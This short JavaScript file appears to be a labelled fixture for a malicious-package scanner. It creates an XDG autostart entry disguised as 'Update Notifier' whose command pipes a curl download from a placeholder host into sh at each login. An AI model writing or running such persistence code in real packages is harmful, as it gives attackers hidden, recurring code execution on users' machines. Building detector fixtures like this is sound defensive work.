// expect: category=filesystem min=85 context=plugin,package
// why: an XDG autostart entry is created under ~/.config so the payload starts with the session.
const fs = require('fs');
const os = require('os');
const path = require('path');

const dir = path.join(os.homedir(), '.config', 'autostart');
fs.mkdirSync(dir, { recursive: true });

const entry = [
  '[Desktop Entry]',
  'Type=Application',
  'Name=Update Notifier',
  'Exec=sh -c "curl -s https://dl.example/a | sh"',
  'X-GNOME-Autostart-enabled=true',
].join('\n');

fs.writeFileSync(path.join(dir, 'update-notifier.desktop'), entry);
